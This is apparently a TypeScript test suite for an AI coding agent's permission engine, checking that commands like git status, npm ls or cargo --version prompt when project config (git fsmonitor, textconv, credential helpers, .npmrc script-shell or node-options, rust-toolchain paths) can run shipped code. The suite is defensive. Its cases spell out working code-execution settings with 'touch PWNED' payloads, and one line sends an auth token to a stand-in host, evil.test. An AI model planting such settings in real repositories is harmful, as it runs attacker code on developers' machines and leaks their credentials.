// A project's own configuration that makes a read-only command run code: git's repository
// config, .yarnrc.yml, .pnpmfile.cjs, rust-toolchain.toml. Real repositories made by real git,
// judged by the real permission engine; the attack cases ask, the everyday ones stay allowed.
import { execFile, execFileSync, spawnSync } from "node:child_process";
import { existsSync, mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { namedTool, request } from "../../test/permission-helpers.js";
import { analyzeCommand } from "./index.js";
import type { PermissionMode } from "../tool/types.js";
import { resolvePermission } from "../permissions/resolve.js";

let root: string;
let n = 0;
beforeAll(() => {
  root = realpathSync(mkdtempSync(join(tmpdir(), "armature-project-programs-")));
});
afterAll(() => rmSync(root, { recursive: true, force: true }));

const git = (cwd: string, ...args: string[]): string => execFileSync("git", args, { cwd, encoding: "utf8", env: { ...process.env, GIT_CONFIG_NOSYSTEM: "1" } });

/** A fresh git repository; `setup` shapes it (config, files). */
function repo(setup: (dir: string) => void = () => {}): string {
  const dir = join(root, `r${n++}`);
  mkdirSync(dir);
  git(dir, "init", "-q");
  setup(dir);
  return dir;
}

/** A fresh directory that is not a repository. */
function plainDir(setup: (dir: string) => void = () => {}): string {
  const dir = join(root, `d${n++}`);
  mkdirSync(dir);
  setup(dir);
  return dir;
}

function decide(command: string, cwd: string, mode: PermissionMode = "default", allow: string[] = []) {
  const subject = { kind: "shell" as const, facts: analyzeCommand(command) };
  return resolvePermission(request({ tool: namedTool("Bash"), subject, cwd, mode, allow }));
}

const set = (key: string, value: string) => (dir: string) => git(dir, "config", key, value);

describe("a repository's own git config that runs programs makes read-only git ask", () => {
  it.each<[string, (dir: string) => void, string, RegExp]>([
    ["core.fsmonitor command", set("core.fsmonitor", "touch PWNED"), "git status", /core\.fsmonitor/],
    ["core.fsmonitor, key spelt in mixed case", (d) => writeFileSync(join(d, ".git/config"), "[CORE]\n\tFsMonitor = ./x.sh\n", { flag: "a" }), "git status", /core\.fsmonitor/],
    ["a textconv driver", set("diff.pdf.textconv", "sh -c 'touch PWNED'"), "git diff", /diff\.pdf\.textconv/],
    ["an external diff", set("diff.external", "./evil"), "git diff HEAD", /diff\.external/],
    ["a clean filter", set("filter.x.clean", "./evil %f"), "git status", /filter\.x\.clean/],
    ["a long-running filter process", set("filter.x.process", "./evil"), "git status", /filter\.x\.process/],
    ["a work tree elsewhere", set("core.worktree", "/"), "git diff", /core\.worktree/],
    ["a shell credential helper", set("credential.helper", "!touch PWNED"), "git status", /credential\.helper/],
    ["a credential helper by path, per URL", set("credential.https://example.test.helper", "/tmp/x"), "git status", /credential\..*helper/],
    ["a gpg program", set("gpg.program", "./evil"), "git log -1", /gpg\.program/],
    ["an ssh gpg program", set("gpg.ssh.program", "./evil"), "git log -1", /gpg\.ssh\.program/],
    ["an ext:: transport allowed", set("protocol.ext.allow", "always"), "git status", /protocol\.ext\.allow/],
    ["a remote's upload-pack", set("remote.origin.uploadpack", "./evil"), "git status", /remote\.origin\.uploadpack/],
    ["fsmonitor in an included file", (d) => {
      writeFileSync(join(d, "inc.cfg"), "[core]\n\tfsmonitor = ./evil\n");
      git(d, "config", "include.path", "../inc.cfg");
    }, "git status", /core\.fsmonitor/],
    ["fsmonitor in a conditional include", (d) => {
      writeFileSync(join(d, "inc.cfg"), "[core]\n\tfsmonitor = ./evil\n");
      git(d, "config", `includeIf.gitdir:${d}/.git.path`, "../inc.cfg");
    }, "git status", /core\.fsmonitor/],
    ["fsmonitor in the worktree config", (d) => {
      git(d, "config", "extensions.worktreeConfig", "true");
      git(d, "config", "--worktree", "core.fsmonitor", "./evil");
    }, "git status", /core\.fsmonitor/],
    ["git after cd into the same repository", (d) => {
      mkdirSync(join(d, "src"));
      git(d, "config", "core.fsmonitor", "./evil");
    }, "cd src && git status", /core\.fsmonitor/],
    ["a wrapped git", set("core.fsmonitor", "./evil"), "timeout 5 git status", /core\.fsmonitor/],
    ["gh, which runs git in the repository", set("core.fsmonitor", "./evil"), "gh pr list", /core\.fsmonitor/],
    ["git help's format: a browser", set("help.format", "web"), "git help log", /help\.format/],
    ["git help's man viewer", set("man.viewer", "evil"), "git help log", /man\.viewer/],
    ["a man viewer's command", set("man.evil.cmd", "./evil"), "git help log", /man\.evil\.cmd/],
    ["a browser's command", set("browser.evil.cmd", "./evil"), "git help log", /browser\.evil\.cmd/],
  ])("%s", (_name, setup, command, reason) => {
    const dir = repo(setup);
    const d = decide(command, dir);
    expect(d.behavior, d.reason).toBe("ask");
    expect(d.reason).toMatch(reason);
    expect(d.reason).toMatch(/may run code the project ships/);
    // dontAsk denies it, acceptEdits asks, bypassPermissions (the user's choice) runs it.
    expect(decide(command, dir, "dontAsk").behavior).toBe("deny");
    expect(decide(command, dir, "acceptEdits").behavior).toBe("ask");
    expect(decide(command, dir, "bypassPermissions").behavior).toBe("allow");
  });

  it("a bare repository shipped as the project directory (git finds it without a .git)", () => {
    const src = repo((d) => git(d, "commit", "-q", "--allow-empty", "-m", "x"));
    const dir = join(root, `bare${n++}`);
    git(root, "clone", "-q", "--bare", src, dir);
    expect(decide("git log -1", dir).behavior).toBe("allow");
    git(dir, "config", "core.fsmonitor", "./evil");
    expect(decide("git log -1", dir)).toMatchObject({ behavior: "ask", reason: expect.stringMatching(/core\.fsmonitor/) });
  });

  it("a .git file pointing at a git dir elsewhere: that dir's config counts", () => {
    const other = repo(set("core.fsmonitor", "./evil"));
    const dir = plainDir((d) => writeFileSync(join(d, ".git"), `gitdir: ${join(other, ".git")}\n`));
    expect(decide("git status", dir)).toMatchObject({ behavior: "ask", reason: expect.stringMatching(/core\.fsmonitor/) });
  });

  it("a config changed after a decision is read again", () => {
    const dir = repo();
    expect(decide("git status", dir).behavior).toBe("allow");
    git(dir, "config", "core.fsmonitor", "./evil");
    expect(decide("git status", dir).behavior).toBe("ask");
    git(dir, "config", "--unset", "core.fsmonitor");
    expect(decide("git status", dir).behavior).toBe("allow");
  });

  it.each<[string, (dir: string) => void, string]>([
    ["a fresh repository", () => {}, "git status"],
    ["the built-in fsmonitor daemon", set("core.fsmonitor", "true"), "git status"],
    ["git-lfs filters", (d) => {
      git(d, "config", "filter.lfs.clean", "git-lfs clean -- %f");
      git(d, "config", "filter.lfs.smudge", "git-lfs smudge -- %f");
      git(d, "config", "filter.lfs.process", "git-lfs filter-process");
    }, "git diff"],
    ["a named credential helper", set("credential.helper", "store"), "git status"],
    ["husky's hooks path (no hook runs on a read-only command)", set("core.hooksPath", ".husky/_"), "git log -1"],
    ["a pager (none without a terminal)", set("core.pager", "delta"), "git log -1"],
    ["git help's own format and viewer", (d) => {
      git(d, "config", "help.format", "man");
      git(d, "config", "man.viewer", "man");
    }, "git help log"],
    ["remote URLs and branches", (d) => git(d, "remote", "add", "origin", "https://example.test/x.git"), "git branch -a"],
    ["not a repository at all", () => {}, "ls"],
  ])("benign: %s stays allowed", (_name, setup, command) => {
    const d = decide(command, repo(setup));
    expect(d.behavior, d.reason).toBe("allow");
  });

  it("an allow rule of the user's still allows it", () => {
    const dir = repo(set("core.fsmonitor", "./evil"));
    expect(decide("git status", dir, "default", ["Bash(git status)"]).behavior).toBe("allow");
  });
});

describe("package managers and toolchains that run what the project names", () => {
  const rustup = spawnSync("rustup", ["--version"]).status === 0;

  it.each<[string, Record<string, string>, string, RegExp]>([
    ["yarn berry's .yarnrc.yml", { ".yarnrc.yml": "yarnPath: .yarn/releases/yarn-4.cjs\n" }, "yarn --version", /\.yarnrc\.yml/],
    ["yarn 1's .yarnrc", { ".yarnrc": 'yarn-path "./evil.js"\n' }, "yarn list", /\.yarnrc/],
    ["a .yarnrc.yml in a parent directory", { "../.yarnrc.yml": "plugins:\n  - ./evil.cjs\n" }, "yarn --version", /\.yarnrc\.yml/],
    ["a pnpmfile", { ".pnpmfile.cjs": "module.exports = {}\n" }, "pnpm list", /\.pnpmfile\.cjs/],
    ["a toolchain path", { "rust-toolchain.toml": '[toolchain]\npath = "/tmp/evil"\n' }, "cargo --version", /rust-toolchain\.toml/],
    ["a toolchain path as a dotted key", { "rust-toolchain.toml": 'toolchain.path = "/tmp/evil"\n' }, "rustc --version", /rust-toolchain\.toml/],
    [".npmrc script-shell", { ".npmrc": "script-shell=./evil.sh\n" }, "npm ls", /script-shell/],
    [".npmrc git", { ".npmrc": "git = ./evil\n" }, "npm outdated", /\bgit\b/],
    [".npmrc node-options, quoted", { ".npmrc": 'node-options="--require ./evil.js"\n' }, "npm --version", /node-options/],
    [".npmrc onload-script, spelt with an underscore and capitals", { ".npmrc": "Onload_Script=./evil.js\n" }, "npm ls", /onload-script/],
    [".npmrc editor, browser, viewer", { ".npmrc": "editor=./evil\n" }, "npm ls", /editor/],
    [".npmrc redirecting the user config", { ".npmrc": "userconfig=./other.npmrc\n" }, "npm ls", /userconfig/],
    [".npmrc globalconfig", { ".npmrc": "globalconfig=/tmp/g\n" }, "npm --version", /globalconfig/],
    [".npmrc cache elsewhere", { ".npmrc": "cache=../../elsewhere\n" }, "npm ls", /cache/],
    [".npmrc logs-dir", { ".npmrc": "logs-dir=.husky\n" }, "npm ls", /logs-dir/],
    [".npmrc prefix", { ".npmrc": "prefix=/tmp/p\n" }, "npm ls -g", /prefix/],
    [".npmrc key named by an environment variable", { ".npmrc": "${KEY}=./evil\n" }, "npm ls", /environment variable/],
    [".npmrc after an inline comment on another line", { ".npmrc": "fund=false ; no funding\nshell=./evil\n" }, "npm ls", /shell/],
    [".npmrc in a workspace root above the package", { "../.npmrc": "script-shell=./evil\n", "package.json": "{}" }, "npm ls", /script-shell/],
    [".npmrc registry chosen by the project, npm view", { ".npmrc": "registry=http://127.0.0.1:9/\n" }, "npm view react", /registry/],
    [".npmrc scoped registry, npm info", { ".npmrc": "@types:registry=https://evil.test/\n" }, "npm info @types/node", /@types:registry/],
    [".npmrc registry from the environment, npm outdated", { ".npmrc": "registry=${REG}\n" }, "npm outdated", /registry/],
    [".npmrc credentials built from the environment for another host", { ".npmrc": "//evil.test/:_authToken=${GITHUB_TOKEN}\n" }, "npm view react", /evil\.test/],
    [".npmrc https-proxy, npm view", { ".npmrc": "https-proxy=http://evil.test:8080\n" }, "npm view react", /https-proxy/],
    [".npmrc strict-ssl off, npm outdated", { ".npmrc": "strict-ssl=false\n" }, "npm outdated --json", /strict-ssl/],
    [".npmrc pnpmfile redirected", { ".npmrc": "pnpmfile=./evil.cjs\n" }, "pnpm ls", /pnpmfile/],
    [".npmrc read by yarn 1", { ".npmrc": "git=./evil\n" }, "yarn list", /\.npmrc/],
    ["pnpm-workspace.yaml naming a pnpmfile", { "pnpm-workspace.yaml": "pnpmfile: ./evil.cjs\n" }, "pnpm list", /pnpm-workspace\.yaml/],
    ["pnpm-workspace.yaml config dependencies", { "pnpm-workspace.yaml": "configDependencies:\n  x: 1.0.0+sha512-abc\n" }, "pnpm ls", /pnpm-workspace\.yaml/],
    ["a toolchain path behind a unicode escape", { "rust-toolchain.toml": '[toolchain]\n"p\\u0061th" = "/tmp/evil"\n' }, "cargo --version", /rust-toolchain\.toml/],
  ])("%s asks", (_name, files, command, reason) => {
    const parent = plainDir();
    const dir = join(parent, "p");
    mkdirSync(dir);
    for (const [f, text] of Object.entries(files)) writeFileSync(join(dir, f), text);
    const d = decide(command, dir);
    expect(d.behavior, d.reason).toBe("ask");
    expect(d.reason).toMatch(reason);
  });

  it.each<[string, Record<string, string>, string]>([
    ["a pinned channel", { "rust-toolchain.toml": '[toolchain]\nchannel = "1.80.0"\ncomponents = ["clippy"]\n' }, "cargo --version"],
    ["the legacy one-line toolchain file", { "rust-toolchain": "stable\n" }, "rustc --version"],
    ["an npm project", { "package.json": "{}", ".npmrc": "registry=https://registry.npmjs.org/\n" }, "npm --version"],
    ["an everyday .npmrc, npm ls", { "package.json": "{}", ".npmrc": "save-exact=true\nengine-strict = true\n; script-shell=/tmp/evil (a comment)\n# git=./evil\nauto-install-peers=true\n" }, "npm ls --depth 0"],
    ["a private registry, for a command that stays local", { ".npmrc": "@acme:registry=https://npm.acme.test/\n//npm.acme.test/:_authToken=${NPM_TOKEN}\n" }, "npm ls"],
    ["the default registry with its token, npm view", { ".npmrc": "registry = \"https://registry.npmjs.org/\"\n//registry.npmjs.org/:_authToken=${NPM_TOKEN}\n" }, "npm view react version"],
    ["a harmless .npmrc, npm outdated", { ".npmrc": "save-exact=true\nfund=false\n" }, "npm outdated"],
    ["pnpm-workspace.yaml listing packages", { "pnpm-workspace.yaml": "packages:\n  - 'packages/*'\n" }, "pnpm list"],
    ["pnpm with an everyday .npmrc", { ".npmrc": "auto-install-peers=true\nstrict-peer-dependencies=false\n" }, "pnpm ls"],
    ["yarn without a project file", { "package.json": "{}" }, "yarn --version"],
  ])("benign: %s stays allowed", (_name, files, command) => {
    const dir = plainDir((d) => {
      for (const [f, text] of Object.entries(files)) writeFileSync(join(d, f), text);
    });
    const d = decide(command, dir);
    expect(d.behavior, d.reason).toBe("allow");
  });

  it.skipIf(!rustup)("end to end: cargo --version with a shipped toolchain path does not run it", async () => {
    const dir = plainDir();
    mkdirSync(join(dir, "tc/bin"), { recursive: true });
    writeFileSync(join(dir, "tc/bin/cargo"), `#!/bin/sh\ntouch ${join(dir, "PWNED")}\n`, { mode: 0o755 });
    writeFileSync(join(dir, "rust-toolchain.toml"), `[toolchain]\npath = "${join(dir, "tc")}"\n`);
    const out = execFileSync(process.execPath, [join(process.cwd(), "bin/armature.js"), "exec", "-", "--cwd", dir], {
      input: `${JSON.stringify([{ type: "tool_use", id: "c", name: "Bash", input: { command: "cargo --version" } }])}\n`,
      encoding: "utf8",
    });
    expect(out).toMatch(/rust-toolchain\.toml/);
    expect(existsSync(join(dir, "PWNED"))).toBe(false);
  });
});

describe("a submodule's own git config counts (git status runs git in every checked-out submodule)", () => {
  /** A superproject with one checked-out submodule `sub`; `setup` shapes the submodule afterwards. */
  function withSubmodule(setup: (sub: string, top: string) => void = () => {}): string {
    const inner = repo((d) => git(d, "commit", "-q", "--allow-empty", "-m", "x"));
    const top = repo();
    git(top, "-c", "protocol.file.allow=always", "submodule", "add", "-q", inner, "sub");
    git(top, "commit", "-q", "-m", "add sub");
    setup(join(top, "sub"), top);
    return top;
  }

  it("a benign submodule (its config names its own work tree) stays allowed", () => {
    const d = decide("git status", withSubmodule());
    expect(d.behavior, d.reason).toBe("allow");
  });

  it("from a subdirectory of the superproject: the benign one stays allowed, a configured program asks", () => {
    const benign = withSubmodule((_sub, top) => mkdirSync(join(top, "src")));
    expect(decide("git status", join(benign, "src")).behavior).toBe("allow");
    const evil = withSubmodule((sub, top) => {
      mkdirSync(join(top, "src"));
      git(sub, "config", "core.fsmonitor", "./evil");
    });
    expect(decide("git status", join(evil, "src"))).toMatchObject({ behavior: "ask", reason: expect.stringMatching(/submodule \.\.\/sub.*core\.fsmonitor/) });
  });

  it("a submodule's config changed after a decision is read again", () => {
    let sub = "";
    const top = withSubmodule((s) => (sub = s));
    expect(decide("git status", top).behavior).toBe("allow");
    git(sub, "config", "core.fsmonitor", "./evil");
    expect(decide("git status", top).behavior).toBe("ask");
  });

  it.each<[string, (sub: string, top: string) => void, string]>([
    ["fsmonitor in .git/modules/sub/config", (sub) => git(sub, "config", "core.fsmonitor", "./evil"), "git status"],
    ["a textconv driver in the submodule", (sub) => git(sub, "config", "diff.x.textconv", "./evil"), "git diff"],
    ["a submodule's work tree pointed elsewhere", (sub) => git(sub, "config", "core.worktree", "/"), "git status"],
    ["an old-style submodule with its own .git directory", (_sub, top) => {
      const old = join(top, "old");
      mkdirSync(old);
      git(old, "init", "-q");
      git(old, "commit", "-q", "--allow-empty", "-m", "x");
      git(top, "add", "old");
      git(old, "config", "core.fsmonitor", "./evil");
    }, "git status"],
    ["a submodule of a submodule", (sub) => {
      const deep = repo((d) => git(d, "commit", "-q", "--allow-empty", "-m", "x"));
      git(sub, "-c", "protocol.file.allow=always", "submodule", "add", "-q", deep, "deep");
      git(join(sub, "deep"), "config", "core.fsmonitor", "./evil");
    }, "git status"],
    ["the superproject's submodule.NAME.update command", (_sub, top) => git(top, "config", "submodule.sub.update", "!touch PWNED"), "git status"],
  ])("%s asks", (_name, setup, command) => {
    const d = decide(command, withSubmodule(setup));
    expect(d.behavior, d.reason).toBe("ask");
    expect(d.reason).toMatch(/may run code the project ships/);
  });

  it("end to end: git status in the superproject does not run the submodule's fsmonitor", () => {
    let pwned = "";
    const top = withSubmodule((sub) => {
      pwned = join(sub, "..", "PWNED");
      git(sub, "config", "core.fsmonitor", `touch ${pwned}; false`);
    });
    // The attack is real: git itself runs it.
    git(top, "status", "--short");
    expect(existsSync(pwned)).toBe(true);
    rmSync(pwned);
    const out = execFileSync(process.execPath, [join(process.cwd(), "bin/armature.js"), "exec", "-", "--cwd", top], {
      input: `${JSON.stringify([{ type: "tool_use", id: "g", name: "Bash", input: { command: "git status --short" } }])}\n`,
      encoding: "utf8",
    });
    expect(out).toMatch(/core\.fsmonitor/);
    expect(existsSync(pwned)).toBe(false);
  });
});

describe("end to end through exec", () => {
  it("git status in a repository whose config names an fsmonitor program does not run it", () => {
    const dir = repo((d) => git(d, "config", "core.fsmonitor", `touch ${join(d, "PWNED")}; false`));
    const out = execFileSync(process.execPath, [join(process.cwd(), "bin/armature.js"), "exec", "-", "--cwd", dir], {
      input: `${JSON.stringify([{ type: "tool_use", id: "g", name: "Bash", input: { command: "git status --short" } }])}\n`,
      encoding: "utf8",
    });
    expect(out).toMatch(/is_error/);
    expect(out).toMatch(/core\.fsmonitor/);
    expect(existsSync(join(dir, "PWNED"))).toBe(false);
  });
});

describe("end to end: npm view with a project-chosen registry does not reach it", () => {
  const npm = spawnSync("npm", ["--version"]).status === 0;

  it.skipIf(!npm)("the registry named by the project's .npmrc gets no request", async () => {
    const hits: string[] = [];
    const server = createServer((req, res) => {
      hits.push(req.url ?? "");
      res.writeHead(404).end();
    });
    await new Promise<void>((ok) => server.listen(0, "127.0.0.1", ok));
    try {
      const port = (server.address() as AddressInfo).port;
      const dir = plainDir((d) => writeFileSync(join(d, ".npmrc"), `registry=http://127.0.0.1:${port}/\n`));
      // The attack is real: npm itself asks that host.
      const env = Object.fromEntries(Object.entries(process.env).filter(([k]) => !/proxy/i.test(k)));
      await new Promise<void>((ok) => execFile("npm", ["view", "left-pad", "version", "--fetch-retries=0"], { cwd: dir, env, timeout: 20_000 }, () => ok()));
      expect(hits.length).toBeGreaterThan(0);
      hits.length = 0;
      const out = await new Promise<string>((ok, fail) => {
        const child = execFile(process.execPath, [join(process.cwd(), "bin/armature.js"), "exec", "-", "--cwd", dir], { encoding: "utf8" }, (err, stdout) => (err ? fail(err) : ok(stdout)));
        child.stdin?.end(`${JSON.stringify([{ type: "tool_use", id: "n", name: "Bash", input: { command: "npm view left-pad version" } }])}\n`);
      });
      expect(out).toMatch(/registry/);
      expect(hits).toEqual([]);
    } finally {
      server.close();
    }
  });
});
